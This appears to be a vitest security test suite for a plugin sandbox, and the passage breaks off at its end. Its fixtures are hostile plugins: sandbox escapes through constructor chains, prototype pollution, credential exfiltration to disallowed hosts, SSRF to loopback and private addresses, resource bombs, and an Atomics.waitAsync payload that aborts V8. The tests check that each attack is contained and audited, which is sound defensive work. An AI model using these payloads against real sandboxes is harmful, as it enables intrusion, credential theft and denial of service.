import { randomBytes } from 'node:crypto';
import { mkdtempSync } from 'node:fs';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestHub, type TestHub } from '../../../test/hub.ts';
import { createTestDatabase, testDatabaseKinds } from '../../../test/databases.ts';
import { composeHub } from '../../composition.ts';
import { loadConfig } from '../../platform/config.ts';
import type { Database } from '../../platform/db/index.ts';
import type { EventsModule } from '../events/index.ts';
import { bearer, signUpUser, type SignedUpUser } from '../../../test/users.ts';
import { createOutboundClient } from '../../platform/http/outbound/index.ts';
import { createLogger } from '../../platform/logger.ts';
import { createPluginsModule, type PluginsModule } from './index.ts';
import { validatePackage } from './plugins.package.ts';
import { actionsFor, decisionsOf, installAndConsent, manifest, modulesOf, runPlugin } from './test/fixtures.ts';

/**
 * Hostile plugins: every attack is contained (the isolate is stopped or the call refused),
 * audited as policy.Decision, and the hub keeps serving meanwhile. A canary secret must
 * never appear in plugin output, logs, events, or a request to a host its type does not allow.
 */
const canary = `tw-canary-${randomBytes(16).toString('hex')}`;
const otherCanary = `gen-canary-${randomBytes(16).toString('hex')}`;
const accountSid = `AC${randomBytes(16).toString('hex')}`;

interface Seen {
  host: string;
  url: string;
  headers: IncomingMessage['headers'];
}
async function listen(handler: (req: IncomingMessage, res: ServerResponse, seen: Seen[]) => void) {
  const seen: Seen[] = [];
  const server: Server = createServer((req, res) => {
    seen.push({ host: String(req.headers.host), url: req.url ?? '', headers: req.headers });
    handler(req, res, seen);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    port: (server.address() as AddressInfo).port,
    seen,
    close: () => new Promise<void>((r) => server.close(() => r())),
  };
}

const attacker = `
module.exports = {
  async run(input, ctx) {
    const f = (url, init) => ctx.http.fetch(url, init).then((r) => ({ ok: true, status: r.status, body: r.body }), (e) => ({ ok: false, code: e.code, message: e.message }));
    const twilio = ctx.config.credentials.twilio;
    const P = input.port, V = input.victimPort;
    switch (input.mode) {
      case 'escape': {
        const g = (function () { return this; })() || globalThis;
        let viaCtor = 'blocked';
        try { viaCtor = ctx.http.fetch.constructor('return typeof process + typeof require + typeof __mo_host')(); } catch (e) { viaCtor = 'threw'; }
        let viaError = 'none';
        try { null.x; } catch (e) { viaError = e.constructor.constructor('return typeof process')(); }
        return { process: typeof process, require: typeof require, fetch: typeof fetch, host: typeof __mo_host, invoke: typeof __mo_invoke,
          globals: Object.getOwnPropertyNames(g).filter((k) => /^(process|require|ivm|Reference|ExternalCopy|Isolate|Context|__mo_\\w*)$/.test(k)), viaCtor, viaError,
          ctxKeys: Object.keys(ctx), fetchSrc: String(ctx.http.fetch).length < 200 };
      }
      case 'pollute':
        return [JSON.parse('{"__proto__": {"polluted": "yes"}}'), { constructor: { prototype: { polluted: 'yes' } } }];
      case 'readSecret':
        return { ctx: JSON.stringify(ctx), config: ctx.config };
      case 'echo': return f('http://api.twilio.com:' + P + '/echo', { credential: { handle: twilio.handle } });
      case 'wrongHost': return f('http://enrich.example.com:' + P + '/echo', { credential: { handle: twilio.handle } });
      case 'wrongMethod': return f('http://api.twilio.com:' + P + '/echo', { credential: { handle: twilio.handle, as: 'query' } });
      case 'redirectCred': return f('http://api.twilio.com:' + P + '/redirect-other', { credential: { handle: twilio.handle } });
      case 'unlisted': return f('http://unlisted.example.org/');
      case 'loopback': return [await f('http://127.0.0.1:' + V + '/'), await f('http://localhost:' + V + '/'), await f('http://[::1]:' + V + '/'), await f('http://2130706433:' + V + '/')];
      case 'dnsPrivate': return f('http://internal.example.com/');
      case 'dnsLoopback': return f('http://sneaky.example.com:' + V + '/');
      case 'redirectLoopback': return [await f('http://enrich.example.com:' + P + '/redirect-loopback'), await f('http://enrich.example.com:' + P + '/redirect-internal')];
      case 'big': return f('http://enrich.example.com:' + P + '/big');
      case 'foreignHandle': return f('http://api.twilio.com:' + P + '/echo', { credential: { handle: input.handle } });
      case 'othersData': return ctx.entities.get(input.id).then(() => 'read it', (e) => e.code);
      case 'undeclared': return Promise.all([
        ctx.entities.query({ type: 'person' }).then(() => 'read', (e) => e.code),
        ctx.events.emit('anything', {}).then(() => 'emitted', (e) => e.code),
        ctx.storage.set('k', 1).then(() => 'stored', (e) => e.code),
        ctx.notify({ title: 'x' }).then(() => 'notified', (e) => e.code),
      ]);
    }
  },
};`;

const hog = (body: string) => `module.exports = { async run(input, ctx) { ${body} } };`;

describe.each(testDatabaseKinds())('hostile plugins on %s', (kind) => {
  let hub: TestHub;
  let alice: SignedUpUser;
  let bob: SignedUpUser;
  let plugins: PluginsModule;
  let api: Awaited<ReturnType<typeof listen>>;
  let victim: Awaited<ReturnType<typeof listen>>;
  const logs: string[] = [];
  let twilioId: string;
  let otherHandle: string;

  beforeAll(async () => {
    hub = await createTestHub(kind);
    alice = await signUpUser(hub);
    bob = await signUpUser(hub);
    victim = await listen((_req, res) => res.end('you reached the victim'));
    api = await listen((req, res) => {
      const url = req.url ?? '';
      if (url.startsWith('/echo')) {
        res.setHeader('x-echo-auth', String(req.headers.authorization ?? ''));
        return res.end(JSON.stringify({ headers: req.headers, url }));
      }
      if (url === '/redirect-other')
        return res.writeHead(302, { location: `http://other.example.com:${api.port}/echo` }).end();
      if (url === '/redirect-loopback')
        return res.writeHead(302, { location: `http://127.0.0.1:${victim.port}/` }).end();
      if (url === '/redirect-internal') return res.writeHead(302, { location: 'http://internal.example.com/' }).end();
      if (url === '/big') return res.end('x'.repeat(3 * 1024 * 1024));
      res.writeHead(404).end();
    });
    const { wallet, policy } = modulesOf(hub);
    const dns: Record<string, string> = {
      'api.twilio.com': '127.0.0.1',
      'enrich.example.com': '127.0.0.1',
      'other.example.com': '127.0.0.1',
      'sneaky.example.com': '127.0.0.1',
      'internal.example.com': '10.0.0.5',
    };
    const sink = new Writable({
      write(chunk, _e, done) {
        logs.push(String(chunk));
        done();
      },
    });
    const outbox =
      (hub as unknown as { outbox?: never }).outbox ?? (await import('../events/index.ts')).createEventOutbox();
    const sinkLogger = createLogger('trace', sink);
    plugins = createPluginsModule({
      db: hub.db,
      logger: sinkLogger,
      outbox,
      policy: policy.service,
      wallet: wallet.service,
      actions: actionsFor(hub, {
        logger: sinkLogger,
        outbox,
        http: {
          client: createOutboundClient({
            lookup: async (host) =>
              dns[host] ? [{ address: dns[host]!, family: 4 }] : Promise.reject(new Error('ENOTFOUND')),
            // Only the stand-in API's port on loopback; the victim's port stays private.
            allowPrivate: ({ address, port }) => address === '127.0.0.1' && port === api.port,
          }),
          credentialsOverHttp: true,
          timeoutMs: 3000,
        },
      }),
    });

    const created = await hub.app.inject({
      method: 'POST',
      url: '/api/v1/credentials',
      headers: bearer(alice),
      payload: { type: 'twilio', name: 'T', secret: { accountSid, authToken: canary } },
    });
    twilioId = created.json().id;
    const generic = await hub.app.inject({
      method: 'POST',
      url: '/api/v1/credentials',
      headers: bearer(alice),
      payload: {
        type: 'generic',
        name: 'G',
        secret: { headers: { 'x-api-key': otherCanary }, allowedHosts: ['api.twilio.com'] },
      },
    });
    const s = plugins.service;
    const m = manifest(
      'attacker',
      [
        'credentials:twilio',
        ...[
          'api.twilio.com',
          'enrich.example.com',
          'other.example.com',
          'internal.example.com',
          'sneaky.example.com',
        ].map((h) => `http:fetch:${h}`),
        'entities:read:note',
      ],
      {
        credentials: [{ name: 'twilio', type: 'twilio' }],
      },
    );
    await s.install(alice, validatePackage(m, attacker));
    await s.consent(alice, 'attacker', { permissions: m.permissions, credentials: { twilio: twilioId } });
    // Another plugin of alice's holds the generic credential.
    const other = manifest('holder', ['credentials:generic', 'http:fetch:api.twilio.com'], {
      credentials: [{ name: 'key', type: 'generic' }],
    });
    await s.install(alice, validatePackage(other, hog('return ctx.config.credentials.key.handle;')));
    await s.consent(alice, 'holder', { permissions: other.permissions, credentials: { key: generic.json().id } });
    otherHandle = (await s.run(alice.id, 'holder', 'manual', null, null)).result as string;
  });
  afterAll(async () => {
    await plugins?.stop?.();
    await hub?.close();
    await api?.close();
    await victim?.close();
  });

  const attack = async (mode: string, extra: Record<string, unknown> = {}) => {
    const run = await plugins.service.run(
      alice.id,
      'attacker',
      'manual',
      { mode, port: api.port, victimPort: victim.port, ...extra },
      null,
    );
    expect(run.outcome, run.error ?? '').toBe('ok');
    return run.result as any;
  };

  it('gives plugin code no process, require, host Reference or global escape', async () => {
    const r = await attack('escape');
    expect(r).toMatchObject({
      process: 'undefined',
      require: 'undefined',
      fetch: 'undefined',
      host: 'undefined',
      invoke: 'undefined',
      globals: [],
    });
    expect(r.viaCtor).toBe('undefinedundefinedundefined');
    expect(r.viaError).toBe('undefined');
    expect(r.ctxKeys).toEqual(['plugin', 'config', 'entities', 'events', 'http', 'storage', 'log', 'notify']);
  });

  it('returns only copied JSON: prototype pollution through returned objects does not reach the host', async () => {
    const r = await attack('pollute');
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.prototype).not.toHaveProperty('polluted');
    expect(Object.getPrototypeOf(r[0])).toBe(Object.prototype);
  });

  it("never shows a credential's secret to the plugin: opaque handles, scrubbed echoes", async () => {
    const r = await attack('readSecret');
    expect(JSON.stringify(r)).not.toContain(canary);
    expect(r.config.credentials.twilio).toMatchObject({ type: 'twilio', public: { accountSid } });
    expect(r.config.credentials.twilio.handle).toMatch(/^cred_[0-9a-f]{24}$/);
    const echo = await attack('echo');
    expect(echo.ok).toBe(true);
    // The real Twilio host got the credential (that is its job); the plugin did not.
    expect(
      api.seen.some((s) => s.host.startsWith('api.twilio.com') && String(s.headers.authorization).startsWith('Basic ')),
    ).toBe(true);
    expect(JSON.stringify(echo)).not.toContain(canary);
    expect(JSON.stringify(echo)).not.toContain(Buffer.from(`${accountSid}:${canary}`).toString('base64'));
  });

  it("refuses to send a credential to a host its type does not allow, also via redirects, and other plugins' handles", async () => {
    for (const mode of ['wrongHost', 'redirectCred', 'wrongMethod']) {
      const r = await attack(mode);
      expect(r, mode).toMatchObject({ ok: false, code: 'permission_denied' });
    }
    expect(await attack('foreignHandle', { handle: otherHandle })).toMatchObject({
      ok: false,
      code: 'permission_denied',
    });
    const leaked = api.seen.filter(
      (s) =>
        !s.host.startsWith('api.twilio.com') &&
        JSON.stringify(s.headers).includes(Buffer.from(`${accountSid}:${canary}`).toString('base64')),
    );
    expect(leaked).toEqual([]);
    expect(api.seen.some((s) => JSON.stringify(s.headers).includes(otherCanary))).toBe(false);
    const decisions = await decisionsOf(hub, alice.id, 'attacker');
    expect(decisions).toContainEqual(
      expect.objectContaining({
        permission: 'credentials:twilio',
        allowed: false,
        reason: 'credential_host_not_allowed',
      }),
    );
    expect(decisions).toContainEqual(
      expect.objectContaining({ permission: 'credentials:unknown', allowed: false, reason: 'unknown_handle' }),
    );
  });

  it('refuses unlisted hosts, loopback and private addresses (literal, DNS, redirects) and oversized responses', async () => {
    expect(await attack('unlisted')).toMatchObject({ ok: false, code: 'permission_denied' });
    for (const r of await attack('loopback')) expect(r).toMatchObject({ ok: false, code: 'permission_denied' });
    expect(await attack('dnsPrivate')).toMatchObject({ ok: false, code: 'private_address' });
    expect(await attack('dnsLoopback')).toMatchObject({ ok: false, code: 'private_address' });
    const [toLoopback, toInternal] = await attack('redirectLoopback');
    expect(toLoopback).toMatchObject({ ok: false, code: 'permission_denied' });
    expect(toInternal).toMatchObject({ ok: false, code: 'private_address' });
    expect(await attack('big')).toMatchObject({ ok: false, code: 'response_too_large' });
    expect(victim.seen).toEqual([]);
    const decisions = await decisionsOf(hub, alice.id, 'attacker');
    expect(decisions).toContainEqual(
      expect.objectContaining({
        permission: 'http:fetch:unlisted.example.org',
        allowed: false,
        reason: 'not_declared',
      }),
    );
    expect(decisions).toContainEqual(
      expect.objectContaining({
        permission: 'http:fetch:internal.example.com',
        allowed: false,
        reason: 'private_address',
      }),
    );
    expect(decisions).toContainEqual(expect.objectContaining({ permission: 'http:fetch:127.0.0.1', allowed: false }));
  });

  it("refuses undeclared permissions and other users' data", async () => {
    const note = await hub.app.inject({
      method: 'POST',
      url: '/api/v1/entities',
      headers: bearer(bob),
      payload: { type: 'note', title: "bob's secret note" },
    });
    expect(note.statusCode).toBe(201);
    expect(await attack('othersData', { id: note.json().id })).toBe('not_found');
    expect(await attack('undeclared')).toEqual([
      'permission_denied',
      'permission_denied',
      'permission_denied',
      'permission_denied',
    ]);
  });

  it('stops infinite loops, allocation bombs, deep recursion, hangs and huge outputs, and keeps serving meanwhile', async () => {
    const s = plugins.service;
    const limits = { memoryMb: 16, timeoutMs: 300 };
    const cases: [string, string, string[]][] = [
      ['loop', 'while (true) {}', ['timeout']],
      ['async-loop', "await ctx.log.info('then spin'); while (true) {}", ['timeout']],
      ['alloc-bomb', 'const a = []; while (true) a.push(new Array(1e6).fill(a.length));', ['memory', 'timeout']],
      ['recursion', 'function f(n) { return f(n + 1) + 1; } return f(0);', ['error', 'timeout']],
      ['hang', 'await new Promise(() => {});', ['timeout']],
      ['huge-output', "return 'x'.repeat(5e6);", ['error', 'memory', 'timeout']],
      [
        'call-flood',
        'for (let i = 0; i < 2000; i++) { try { await ctx.entities.get("not-an-id"); } catch (e) { if (e.code === "limit") return "limited"; } } return "unlimited";',
        ['ok'],
      ],
    ];
    for (const [id, body] of cases) {
      await s.install(
        alice,
        validatePackage(
          manifest(`hog-${id}`, [], { limits: id === 'call-flood' ? { memoryMb: 16, timeoutMs: 10_000 } : limits }),
          hog(body),
        ),
      );
    }
    // While loops burn their CPU budget in the runtime process, the hub answers other
    // requests: each answer arrives before the loop it raced has been stopped (a budget of
    // seconds, so the order says it, not a clock).
    await s.install(
      alice,
      validatePackage(manifest('hog-long', [], { limits: { memoryMb: 16, timeoutMs: 3_000 } }), hog('while (true) {}')),
    );
    const settled = (run: Promise<unknown>) => {
      const state = { done: false };
      void run.finally(() => (state.done = true));
      return state;
    };
    const looping = s.run(alice.id, 'hog-long', 'manual', null, null);
    const loopState = settled(looping);
    const health = await hub.app.inject({ method: 'GET', url: '/api/v1/credentials', headers: bearer(alice) });
    expect(health.statusCode).toBe(200);
    expect(loopState.done, 'the hub answered while the loop still ran').toBe(false);
    expect((await looping).outcome).toBe('timeout');
    // The same with several runs of it at once (they spread over a few isolates): each is
    // stopped at its own limit and the hub still answers.
    const loops = Array.from({ length: 6 }, () => s.run(alice.id, 'hog-long', 'manual', null, null));
    const loopsState = settled(Promise.all(loops));
    const again = await hub.app.inject({ method: 'GET', url: '/api/v1/credentials', headers: bearer(alice) });
    expect(again.statusCode).toBe(200);
    expect(loopsState.done, 'the hub answered while the loops still ran').toBe(false);
    expect((await Promise.all(loops)).map((r) => r.outcome)).toEqual(Array(6).fill('timeout'));

    for (const [id, , outcomes] of cases) {
      const run = await s.run(alice.id, `hog-${id}`, 'manual', null, null);
      expect(outcomes, `${id}: ${run.outcome} ${run.error}`).toContain(run.outcome);
      if (id === 'call-flood') expect(run.result).toBe('limited');
    }
    // A stopped isolate is replaced on the next run: the plugin is contained, not bricked.
    await s.upgrade(
      alice,
      'hog-loop',
      validatePackage(manifest('hog-loop', [], { limits, version: '1.0.1' }), hog('return "recovered";')),
    );
    expect((await s.run(alice.id, 'hog-loop', 'manual', null, null)).result).toBe('recovered');
    const runs = await s.runs(alice, 'hog-alloc-bomb', 5);
    expect(runs[0]?.outcome).toMatch(/memory|timeout/);
  });

  it('leaks no canary into logs or events', async () => {
    const events = await hub.db.asSystem(
      async (tx) => (await tx.query(`SELECT type, data FROM made_open.outbox`)).rows,
    );
    const everything = JSON.stringify(events) + logs.join('');
    expect(everything).not.toContain(canary);
    expect(everything).not.toContain(otherCanary);
    expect(logs.join('')).toContain('plugin run did not succeed');
  });
});

/**
 * Plugins that go for the runtime itself: abort the process, keep running after their run
 * answered, allocate outside the heap limit, or smuggle oversized results past the
 * isolate's own checks. Each family runs through the hub's real routes and runtime
 * process; the hub must answer throughout and name who was stopped.
 */
const spin = 'for (;;) {}';
const counter = (body: string) => `let runs = 0; module.exports = { async run(input, ctx) { runs++; ${body} } };`;
// The smallest wasm module, and ones defining a memory of 16384 pages without a maximum,
// and of 1 page with a maximum of 100 pages (6.25 MB).
const wasm = {
  empty: '[0,97,115,109,1,0,0,0]',
  unbounded: '[0,97,115,109,1,0,0,0,5,5,1,0,128,128,1]',
  bounded: '[0,97,115,109,1,0,0,0,5,4,1,1,1,100]',
};

describe.each(testDatabaseKinds())('plugins against the runtime process on %s', (kind) => {
  let hub: TestHub;
  let alice: SignedUpUser;
  const limits = { memoryMb: 16, timeoutMs: 300 };
  let n = 0;
  const install = async (body: string, extra: Record<string, unknown> = {}, source = counter(body)) => {
    const id = `rt-${++n}`;
    await installAndConsent(hub, alice, manifest(id, [], { limits, ...extra }), source);
    return id;
  };
  const statusOf = async (id: string) =>
    (await hub.app.inject({ method: 'GET', url: `/api/v1/plugins/${id}`, headers: bearer(alice) })).json().status;
  const eventsOf = (id: string) =>
    hub.db.asSystem(
      async (tx) =>
        (
          await tx.query<{ type: string; data: Record<string, string> }>(
            `SELECT type, data FROM made_open.outbox WHERE owner_id = $1 AND subject = $2 ORDER BY seq`,
            [alice.id, id],
          )
        ).rows,
    );
  const healthy = async () => {
    const health = await hub.app.inject({ method: 'GET', url: '/health' });
    expect(health.statusCode, health.body).toBe(200);
    return health.json().checks.plugins;
  };
  /** Runs until the plugin answers from a fresh isolate (its module-level counter is 1). */
  const freshAgain = async (id: string) => {
    for (let i = 0; i < 50; i++) {
      const run = await runPlugin(hub, alice, id);
      if (run.outcome === 'ok' && run.result === 1) return true;
      await new Promise((r) => setTimeout(r, 50));
    }
    return false;
  };

  beforeAll(async () => {
    hub = await createTestHub(kind);
    alice = await signUpUser(hub);
  });
  afterAll(async () => {
    await hub?.close();
  });

  it('gives plugin code none of the optional globals it did not declare, and exactly those it did', async () => {
    const names = ['SharedArrayBuffer', 'Atomics', 'WebAssembly', 'FinalizationRegistry', 'WeakRef'];
    const probe = `return { types: ${JSON.stringify(names)}.map((n) => typeof globalThis[n]),
      own: Object.getOwnPropertyNames(globalThis).filter((n) => ${JSON.stringify(names)}.includes(n)),
      viaFunction: Function('return typeof Atomics + typeof WebAssembly')() };`;
    const bare = await runPlugin(hub, alice, await install(probe));
    expect(bare.result).toEqual({ types: Array(5).fill('undefined'), own: [], viaFunction: 'undefinedundefined' });
    const declared = await runPlugin(hub, alice, await install(probe, { globals: ['WebAssembly', 'WeakRef'] }));
    expect(declared.result.types).toEqual(['undefined', 'undefined', 'object', 'undefined', 'function']);
    // Undeclared, the crashing payload is a plain error in the plugin, nothing more.
    const tried = await runPlugin(
      hub,
      alice,
      await install('Atomics.waitAsync(new Int32Array(new SharedArrayBuffer(16)), 0, 0, 50); return 1;'),
    );
    expect(tried.outcome).toBe('error');
    expect(tried.error).toMatch(/not defined/);
  });

  it('answers a run that aborts the runtime process as killed, disables that plugin with a notice, and carries on', async () => {
    const healthyPlugin = await install('return runs;');
    expect((await runPlugin(hub, alice, healthyPlugin)).result).toBe(1);
    const before = (await healthy()).details.restarts as number;
    // Any timed Atomics.waitAsync aborts V8 (exit 134) in isolated-vm 5.
    const payloads = [50, 1, 1000].map(
      (ms) => `Atomics.waitAsync(new Int32Array(new SharedArrayBuffer(16)), 0, 0, ${ms}); return 1;`,
    );
    for (const [i, body] of payloads.entries()) {
      const id = await install(body, { globals: ['Atomics', 'SharedArrayBuffer'] });
      const run = await runPlugin(hub, alice, id);
      expect(run.outcome, `${body}: ${run.error}`).toBe('killed');
      expect(run.error).toMatch(/plugin runtime stopped/);
      const plugins = await healthy();
      // Three runtime crashes within a minute: still serving, reported as degraded.
      expect(plugins.status).toBe(i < 2 ? 'ok' : 'degraded');
      expect(plugins.details.restarts).toBe(before + i + 1);
      // Alone in flight when the runtime went down: disabled at once, its user told why.
      await waitUntil(async () => (await statusOf(id)) === 'disabled');
      const events = await eventsOf(id);
      expect(events).toContainEqual({
        type: 'plugin.Disabled',
        data: { pluginId: id, reason: expect.stringMatching(/plugin runtime went down while it ran/) },
      });
      expect(events.find((e) => e.type === 'plugin.Notification')?.data.title).toMatch(/was disabled/);
      // The plugin's view says why, until the user enables it again.
      const view = await hub.app.inject({ method: 'GET', url: `/api/v1/plugins/${id}`, headers: bearer(alice) });
      expect(view.json().statusReason).toMatch(/plugin runtime went down while it ran/);
      expect((await runPlugin(hub, alice, id)).outcome).toBe('refused');
      // The runs log says what happened.
      const runs = (
        await hub.app.inject({ method: 'GET', url: `/api/v1/plugins/${id}/runs`, headers: bearer(alice) })
      ).json().runs;
      expect(runs.map((r: { outcome: string }) => r.outcome)).toEqual(['refused', 'killed']);
      // Enabling it again is the user's choice, and clears the reason.
      const enabled = await hub.app.inject({
        method: 'POST',
        url: `/api/v1/plugins/${id}/enable`,
        headers: bearer(alice),
      });
      expect(enabled.json()).toMatchObject({ status: 'enabled', statusReason: null });
      await hub.app.inject({ method: 'POST', url: `/api/v1/plugins/${id}/disable`, headers: bearer(alice) });
    }
    // Other plugins run on the new runtime (a fresh isolate: the counter starts again).
    expect(await runPlugin(hub, alice, healthyPlugin)).toMatchObject({ outcome: 'ok', result: 1 });
  });

  it('disposes an isolate whose code outlives its run, and /health never waits for it', async () => {
    // Host calls still outstanding when the run answers: the isolate goes with the answer.
    const pending = await install(`ctx.http.fetch('not a url').then(null, () => { ${spin} }); return runs;`);
    expect(await runPlugin(hub, alice, pending)).toMatchObject({ outcome: 'ok', result: 1 });
    expect(await runPlugin(hub, alice, pending)).toMatchObject({ outcome: 'ok', result: 1 });
    const stalled = await install(`ctx.http.fetch('not a url').then(null, () => new Promise(() => {})); return runs;`);
    expect(await runPlugin(hub, alice, stalled)).toMatchObject({ outcome: 'ok', result: 1 });
    // The reply may reach the runtime before the run's answer does; it still had not reached
    // plugin code when the run answered (the bootstrap counts that), so the isolate goes.
    expect(await runPlugin(hub, alice, stalled)).toMatchObject({ outcome: 'ok', result: 1 });
    // CPU used while idle (a wasm compile callback, a finalizer, a late microtask chain),
    // left behind by a run given an input; the runs after it get none.
    // `collected`: it runs only when V8 collects garbage, whose timing no test controls.
    const late = [
      [`WebAssembly.compile(new Uint8Array(${wasm.empty})).then(() => { ${spin} });`, ['WebAssembly'], false],
      [
        `const r = new FinalizationRegistry(() => { ${spin} }); for (let i = 0; i < 2000; i++) r.register({ a: new Array(100) }, i); for (let k = 0; k < 50; k++) new Array(1e4).fill(0).map((_, i) => ({ i }));`,
        ['FinalizationRegistry'],
        true,
      ],
      [
        `let p = Promise.resolve(); for (let i = 0; i < 50; i++) p = p.then(() => undefined); p.then(() => { ${spin} });`,
        [],
        false,
      ],
    ] as const;
    for (const [late_, globals, collected] of late) {
      const body = `if (input && input.late) { ${late_} } if (input && input.churn) { for (let k = 0; k < 20; k++) new Array(1e5).fill(k); } return runs;`;
      const id = await install(body, { globals });
      // The late work may start before the answer is out (then this run pays for it).
      const first = await runPlugin(hub, alice, id, { late: true });
      expect(['ok', 'timeout'], body).toContain(first.outcome);
      await healthy();
      if (!collected) {
        expect(await freshAgain(id), body).toBe(true);
      } else {
        // Garbage churn lets V8 collect, so the spinning finalizer may run while the isolate
        // is idle or during one of these runs (isolated-vm may also never run it): no later
        // run may fail for it beyond its own limit, and the hub stays healthy throughout.
        const later: string[] = [];
        for (let i = 0; i < 20; i++) later.push((await runPlugin(hub, alice, id, { churn: true })).outcome);
        expect(
          later.filter((outcome) => outcome !== 'ok' && outcome !== 'timeout'),
          body,
        ).toEqual([]);
      }
      await healthy();
    }
  });

  it('answers runs whose thrown value or result runs plugin code when read, within the CPU limit', async () => {
    const hostile = [
      `throw new Proxy({}, { get() { ${spin} } });`,
      `return Promise.reject(new Proxy({}, { get() { ${spin} }, getPrototypeOf() { ${spin} } }));`,
      `const e = new Error('x'); Object.defineProperty(e, 'message', { get() { ${spin} } }); throw e;`,
      `return { toJSON() { ${spin} } };`,
      `return new Proxy({}, { ownKeys() { ${spin} } });`,
      `return { then(resolve) { ${spin} } };`,
    ];
    for (const body of hostile) {
      const id = await install(body);
      const running = runPlugin(hub, alice, id);
      await healthy();
      const run = await running;
      expect(['timeout', 'error'], `${body}: ${run.outcome} ${run.error}`).toContain(run.outcome);
    }
  });

  it('counts WebAssembly memory against memoryMb and refuses memories without a maximum', async () => {
    const cases: [string, string][] = [
      ['new WebAssembly.Memory({ initial: 16384 })', 'must declare a maximum'],
      ['new WebAssembly.Memory({ initial: 1, maximum: 16384 })', 'over this plugin'],
      [`new WebAssembly.Module(new Uint8Array(${wasm.unbounded}))`, 'must declare a maximum'],
      [`await WebAssembly.instantiate(new Uint8Array(${wasm.unbounded}))`, 'must declare a maximum'],
      [
        `const m = new WebAssembly.Module(new Uint8Array(${wasm.bounded})); new WebAssembly.Instance(m); new WebAssembly.Instance(m)`,
        'over this plugin',
      ],
      [
        'const m = new WebAssembly.Memory({ initial: 1, maximum: 100 }); new m.constructor({ initial: 1, maximum: 100 })',
        'over this plugin',
      ],
      ['new WebAssembly.Memory({ initial: 1, maximum: 10, shared: true })', 'SharedArrayBuffer'],
    ];
    for (const [code, message] of cases) {
      const run = await runPlugin(
        hub,
        alice,
        await install(`${code}; return 'allocated';`, { globals: ['WebAssembly'] }),
      );
      expect(run.outcome, code).toBe('error');
      expect(run.error, code).toContain(message);
    }
    // Within the budget (8 of its 16 MB are for wasm), wasm works.
    const ok = await install(
      `const { instance } = await WebAssembly.instantiate(new Uint8Array(${wasm.bounded})); const m = new WebAssembly.Memory({ initial: 1, maximum: 20 }); new Uint8Array(m.buffer)[0] = 7; return new Uint8Array(m.buffer)[0];`,
      { globals: ['WebAssembly'] },
    );
    expect(await runPlugin(hub, alice, ok)).toMatchObject({ outcome: 'ok', result: 7 });
  });

  it('checks result size and depth on the host side, whatever the plugin did to the isolate', async () => {
    const cases: [string, string][] = [
      [
        `Promise.prototype.then = function (f) { return f('x'.repeat(20e6)); }; module.exports = { run: async () => 1 };`,
        'more than 1000000 characters',
      ],
      [counter(`let v = 0; for (let i = 0; i < 400000; i++) v = [v]; return v;`), ''],
      [counter(`let v = 0; for (let i = 0; i < 65; i++) v = [v]; return v;`), 'nested deeper than 64'],
      [
        `JSON.stringify = () => '"small"'; module.exports = { run: () => 'x'.repeat(2e6) };`,
        'more than 1000000 characters',
      ],
    ];
    for (const [source, message] of cases) {
      const run = await runPlugin(
        hub,
        alice,
        await install('', { limits: { memoryMb: 128, timeoutMs: 10_000 } }, source),
      );
      // Building 400,000 levels can outlast the CPU limit on a loaded machine: answered either way.
      if (message === '') expect(['error', 'timeout'], source).toContain(run.outcome);
      else {
        expect(run.outcome, source).toBe('error');
        expect(run.error, source).toContain(message);
      }
    }
    const deepest = await runPlugin(
      hub,
      alice,
      await install(`let v = 0; for (let i = 0; i < 64; i++) v = [v]; return v;`),
    );
    expect(deepest.outcome).toBe('ok');
  });
});

describe.each(testDatabaseKinds())('a hub whose outbox holds an event for a crashing plugin, on %s', (kind) => {
  it('starts, serves /health, runs the plugin once (killed), disables it and records the event instead of looping', async () => {
    const database = await createTestDatabase(kind);
    const config = loadConfig({
      DATA_DIR: mkdtempSync(join(tmpdir(), 'made-open-poison-')),
      LOG_LEVEL: 'silent',
      PORT: '0',
    });
    // The first hub must leave the database open for the second.
    const kept = new Proxy(database.db, {
      get: (target, name) => (name === 'close' ? async () => undefined : Reflect.get(target, name)),
    }) as Database;
    const first = await composeHub(config, createLogger('silent'), kept);
    let second: Awaited<ReturnType<typeof composeHub>> | undefined;
    try {
      const alice = await signUpUser(first);
      const m = manifest('poison', ['events:subscribe:data.EntityCreated'], {
        triggers: [{ type: 'event', events: ['data.EntityCreated'] }],
        globals: ['Atomics', 'SharedArrayBuffer'],
      });
      await installAndConsent(
        first,
        alice,
        m,
        'module.exports = { onEvent() { Atomics.waitAsync(new Int32Array(new SharedArrayBuffer(16)), 0, 0, 50); } };',
      );
      const consumerOf = (hub: typeof first) =>
        (hub.modules.find((x) => x.name === 'events') as EventsModule)
          .consumers()
          .find((c) => c.spec.name === 'plugin-triggers')!;
      // The event is committed while nothing consumes it: the next hub finds it waiting.
      await consumerOf(first).stop();
      const note = await first.app.inject({
        method: 'POST',
        url: '/api/v1/entities',
        headers: bearer(alice),
        payload: { type: 'note', title: 'poisoned' },
      });
      expect(note.statusCode).toBe(201);
      await first.close();

      second = await composeHub(config, createLogger('silent'), database.db);
      const hub = second;
      expect((await hub.app.inject({ method: 'GET', url: '/health' })).statusCode).toBe(200);
      const runs = () =>
        hub.db.asSystem(
          async (tx) =>
            (
              await tx.query<{ outcome: string; error: string }>(
                `SELECT outcome, error FROM made_open.plugin_runs WHERE owner_id = $1 AND plugin_id = 'poison'`,
                [alice.id],
              )
            ).rows,
        );
      const status = async () =>
        (await hub.app.inject({ method: 'GET', url: '/api/v1/plugins/poison', headers: bearer(alice) })).json().status;
      await waitUntil(async () => (await runs()).length > 0 && (await status()) === 'disabled');
      expect(await runs()).toEqual([{ outcome: 'killed', error: expect.stringMatching(/plugin runtime stopped/) }]);
      // Handled, not failed: nothing left to redeliver into the crash.
      const consumer = consumerOf(hub);
      await waitUntil(async () => consumer.stats.handled >= 1);
      expect(consumer.stats.failed).toBe(0);
      const failures = await hub.db.asSystem(
        async (tx) =>
          (await tx.query(`SELECT 1 FROM made_open.event_failures WHERE consumer = 'plugin-triggers'`)).rows.length,
      );
      expect(failures).toBe(0);
      const health = await hub.app.inject({ method: 'GET', url: '/health' });
      expect(health.statusCode).toBe(200);
      expect(health.json().checks.plugins.details.restarts).toBe(1);
      expect(await runs()).toHaveLength(1);
    } finally {
      await (second ?? first).close().catch(() => undefined);
